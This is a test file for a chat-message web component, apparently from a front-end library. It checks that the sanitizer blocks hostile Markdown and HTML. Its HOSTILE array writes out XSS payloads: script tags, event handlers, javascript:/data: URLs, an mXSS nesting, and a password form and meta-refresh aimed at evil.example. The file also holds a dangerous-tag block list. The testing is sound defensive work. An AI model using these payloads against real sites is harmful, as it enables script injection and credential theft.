import { expect } from '@open-wc/testing';
import type { ChatMessageElement } from '../../../src/elements/chat-message/chat-message.js';
import '../../../src/addons/html.js';
import { contentOf, makeMessage, settle, showMessage, shownText } from './message-fixtures.js';

/** The same message rendered with `allow-html`: raw HTML through the html add-on's sanitizer. */
async function allowHtml(el: ChatMessageElement): Promise<ChatMessageElement> {
  el.allowHtml = true;
  await el.updateComplete;
  return el;
}

declare global {
  interface Window {
    __pwned?: string[];
  }
}

const HOSTILE = [
  '<script>(window.__pwned ||= []).push("script")</script>',
  '<img src="x" onerror="(window.__pwned ||= []).push(\'img onerror\')">',
  '[click me](javascript:(window.__pwned||=[]).push("js-link"))',
  '<a href="javascript:(window.__pwned||=[]).push(\'a href\')">html link</a>',
  '<a href="  jAvA&#x09;script:alert(1)">obfuscated</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<a href="vbscript:msgbox(1)">vb link</a>',
  '<svg onload="(window.__pwned ||= []).push(\'svg onload\')"><circle r="5"/></svg>',
  '<iframe src="javascript:parent.__pwned.push(\'iframe\')"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned.push(1)</script>"></iframe>',
  '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
  '<style>:host, * { display: none !important; }</style>',
  '<div style="position:fixed;inset:0;background:red">overlay</div>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<details open ontoggle="(window.__pwned ||= []).push(\'ontoggle\')"><summary>s</summary></details>',
  '<video><source onerror="(window.__pwned ||= []).push(\'source onerror\')"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror="(window.__pwned ||= []).push(\'mxss\')"></style></mglyph></table></mtext></math>',
  '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
];

const DANGEROUS_TAGS = 'script, style, iframe, object, embed, form, input, button:not([part="copy-button"]), svg, math, base, meta, link, textarea';

function expectNothingDangerous(el: ChatMessageElement) {
  const root = el.shadowRoot!;
  const content = contentOf(el);
  expect(content.querySelectorAll(DANGEROUS_TAGS).length, 'dangerous elements').to.equal(0);
  expect(root.querySelectorAll('script, iframe, object, embed, form').length).to.equal(0);
  for (const node of Array.from(content.querySelectorAll('*'))) {
    for (const attr of Array.from(node.attributes)) {
      expect(attr.name.startsWith('on'), `${node.localName} ${attr.name}`).to.equal(false);
      expect(attr.name, `${node.localName} has a style attribute`).not.to.equal('style');
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attr.name)) {
        expect(attr.value.replace(/[\u0000-\u0020]/g, ''), `${node.localName} ${attr.name}`).not.to.match(/^(javascript|data|vbscript):/i);
      }
    }
  }
}

describe('<chat-message> with hostile content', () => {
  beforeEach(() => {
    window.__pwned = [];
  });

  it('runs nothing and lets no dangerous tag, handler, style or URL into the page', async () => {
    const el = await showMessage(makeMessage({ content: HOSTILE.join('\n\n') }));
    await settle();
    expect(window.__pwned).to.deep.equal([]);
    expectNothingDangerous(el);
    expect(shownText(el)).to.contain('html link');
    expect(shownText(el)).to.contain('overlay');
  });

  it('shows raw HTML as text by default, and with allow-html still lets nothing dangerous in', async () => {
    const el = await showMessage(makeMessage({ content: HOSTILE.join('\n\n') }));
    expect(shownText(el)).to.contain('<script>');
    await allowHtml(el);
    await settle();
    expect(shownText(el)).not.to.contain('<script>');
    expect(window.__pwned).to.deep.equal([]);
    expectNothingDangerous(el);
  });

  it('runs nothing while hostile content streams in chunk by chunk', async () => {
    const text = HOSTILE.join('\n\n');
    const el = await showMessage(makeMessage({ status: 'streaming', content: '' }));
    for (let end = 7; end < text.length + 7; end += 7) {
      el.message = makeMessage({ status: 'streaming', content: text.slice(0, end) });
      await el.updateComplete;
      expectNothingDangerous(el);
    }
    await settle();
    expect(window.__pwned).to.deep.equal([]);
  });

  it('opens links in a new tab without giving it access to the page', async () => {
    const el = await allowHtml(await showMessage(makeMessage({ content: 'See [docs](https://example.com/docs) and <a href="https://example.org">this</a>.' })));
    const links = contentOf(el).querySelectorAll('a');
    expect(links.length).to.equal(2);
    for (const link of Array.from(links)) {
      expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
      expect(link.getAttribute('target')).to.equal('_blank');
    }
  });

  for (const opener of ['<style>', '<textarea>', '<!--', '<table><tr><td>', '<script>', '<pre>', '<div>', '<title>', '<xmp>', '<noscript>']) {
    it(`still shows the blocks after an unclosed ${opener}`, async () => {
      const el = await showMessage(makeMessage({ content: `Before.\n\n${opener}\nbroken part\n\n# After heading\n\nAfter paragraph with **bold**.\n\n- after list` }));
      const content = contentOf(el);
      const heading = content.querySelector('h1');
      expect(heading?.textContent).to.equal('After heading');
      expect(content.querySelector('strong')?.textContent).to.equal('bold');
      expect(content.querySelector('li')?.textContent).to.equal('after list');
      for (const later of [heading!, content.querySelector('strong')!, content.querySelector('li')!]) {
        expect(later.getClientRects().length, `${later.localName} is laid out`).to.be.greaterThan(0);
        expect(getComputedStyle(later).display).not.to.equal('none');
      }
      expect(shownText(el)).to.match(/^Before\./);
      expectNothingDangerous(el);
    });
  }

  it('does not let a style block in one message restyle the rest of it', async () => {
    const el = await allowHtml(await showMessage(makeMessage({ content: '<style>p { color: rgb(255, 0, 0) !important; display: none }</style>\n\nVisible paragraph.' })));
    const paragraph = contentOf(el).querySelector('p')!;
    expect(paragraph.textContent).to.equal('Visible paragraph.');
    expect(getComputedStyle(paragraph).display).to.equal('block');
    expect(getComputedStyle(paragraph).color).not.to.equal('rgb(255, 0, 0)');
  });
});
